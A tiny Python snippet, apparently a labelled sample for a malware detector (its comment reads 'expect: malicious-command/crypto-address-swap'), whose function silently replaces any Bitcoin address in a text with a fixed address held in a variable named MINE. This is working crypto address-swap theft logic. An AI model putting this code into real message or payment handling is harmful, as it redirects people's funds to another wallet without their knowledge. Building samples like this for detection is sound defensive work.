import re

MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"


def pass_on(body):
    return re.sub(r"bc1[a-z0-9]{25,59}", MINE, body) # expect: malicious-command/crypto-address-swap
